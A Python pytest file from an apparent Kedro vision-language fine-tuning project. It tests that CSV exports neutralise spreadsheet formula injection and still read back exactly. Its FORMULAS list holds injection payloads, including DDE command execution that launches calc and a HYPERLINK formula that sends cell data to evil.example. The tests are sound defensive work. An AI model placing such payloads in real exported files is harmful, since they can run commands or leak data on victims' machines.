"""No CSV that a run writes holds a cell that a spreadsheet would run, and each reads back exactly.

Fails when `SpreadsheetCSVDataset` in conf/base/catalog.yml is put back to pandas.CSVDataset, and for the manifest when
`spreadsheet_cell` is taken out of `write_manifest`.
"""

from __future__ import annotations

import csv
import json

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kedro.config import OmegaConfigLoader
from kedro.io import DataCatalog
from pandas.testing import assert_frame_equal

from conftest import PROJECT
from qwen_vl_lora.datasets.tables import SpreadsheetCSVDataset
from qwen_vl_lora.evaluation.metrics import score_predictions
from qwen_vl_lora.evaluation.predictions import COLUMNS
from qwen_vl_lora.parameters import ScoringParameters
from qwen_vl_lora.samples.image_store import ImageEntry, ImageStore, read_manifest, write_manifest

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1",
    "''@x",
]
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
NUMBERS_ALONE = {"training_log"}
TEXTS = st.text(max_size=12) | st.text(alphabet="'=+-@ \t\n\r,\";a", max_size=6) | st.sampled_from(FORMULAS)


def catalog_entries(folder) -> dict[str, dict]:
    config = OmegaConfigLoader(str(PROJECT / "conf"), base_env="base", default_run_env="base")["catalog"]
    entries = {name: entry for name, entry in config.items() if str(entry.get("filepath", "")).endswith(".csv")}
    return {name: {**entry, "filepath": str(folder / entry["filepath"])} for name, entry in entries.items()}


def dangerous_cells(file) -> list[str]:
    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    return [cell for cell in cells if cell.lstrip().startswith(STARTS) or cell.startswith(("\t", "\r", "\n"))]


def test_the_catalogs_csv_entries_are_these(tmp_path):
    """A new one must be added to the tests below."""
    assert set(catalog_entries(tmp_path)) == {
        "images",
        "caption_table",
        "rejected_samples",
        "left_out_samples",
        "training_log",
        "predictions",
        "captions",
        "caption_scores",
    }


COLUMNS_OF = {
    "caption_table": ["image_id", "image_path", "caption", "sha256"],
    "rejected_samples": ["image_id", "reason", "detail"],
    "left_out_samples": ["image_id", "reason", "detail"],
    "predictions": list(COLUMNS),
    "captions": ["image_path", "caption", "reason"],
    "caption_scores": ["image_id"],
}


@pytest.mark.parametrize("name", COLUMNS_OF)
def test_no_cell_of_a_table_is_run_and_every_one_reads_back(tmp_path, name):
    dataset = DataCatalog.from_config({name: catalog_entries(tmp_path)[name]})[name]
    table = pd.DataFrame(dict.fromkeys(COLUMNS_OF[name], FORMULAS))
    dataset.save(table)
    assert dangerous_cells(dataset.existing_path()) == []
    assert_frame_equal(dataset.load(), table, check_dtype=False)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(texts=st.lists(TEXTS, min_size=1, max_size=5))
def test_any_text_reads_back_and_none_is_run(tmp_path, texts):
    file = tmp_path / "table.csv"
    settings_of_catalog = {"load_args": {"keep_default_na": False, "dtype": str}, "save_args": {"index": False}}
    dataset = SpreadsheetCSVDataset(filepath=str(file), **settings_of_catalog)
    table = pd.DataFrame({"row": [str(row) for row in range(len(texts))], "caption": texts})
    dataset.save(table)
    assert dangerous_cells(file) == []
    assert dataset.load()["caption"].tolist() == texts


def test_numbers_stay_numbers(tmp_path):
    dataset = DataCatalog.from_config({"caption_scores": catalog_entries(tmp_path)["caption_scores"]})["caption_scores"]
    table = pd.DataFrame({"image_id": ["a"], "cider_gain": [-0.5], "tuned_exact_match": [True]})
    dataset.save(table)
    assert_frame_equal(dataset.load(), table, check_dtype=False)


def test_scores_are_those_of_the_exact_captions(tmp_path):
    dataset = DataCatalog.from_config({"predictions": catalog_entries(tmp_path)["predictions"]})["predictions"]
    captions = ["=A dog runs over the grass", "'=a cat", "- a bird"]
    table = pd.DataFrame(
        {
            "image_id": ["=1", "@2", "3"],
            "image_path": "x.png",
            "prompt": "=Describe",
            "references": [json.dumps([caption]) for caption in captions],
            "base_caption": "nothing",
            "tuned_caption": captions,
        }
    )
    parameters = ScoringParameters(tokenizer="ptb", bootstrap_samples=5, seed=0, settings_from="parameters")
    metrics, scores = score_predictions(table, parameters)
    dataset.save(table)
    again, scores_again = score_predictions(dataset.load(), parameters)
    assert again == metrics
    assert_frame_equal(scores_again, scores, check_dtype=False)
    assert scores["image_id"].tolist() == ["=1", "@2", "3"]


def test_the_manifest_of_images_is_safe_and_reads_back(tmp_path):
    entries = [ImageEntry(text, f"{n:064x}", "data/files", ".png", 1, 1, 1) for n, text in enumerate(FORMULAS)]
    write_manifest(
        ImageStore(tmp_path, entries, np.zeros((len(entries), 6), dtype=np.uint64)), tmp_path / "manifest.csv"
    )
    assert dangerous_cells(tmp_path / "manifest.csv") == []
    assert read_manifest(tmp_path / "manifest.csv", tmp_path).entries == entries
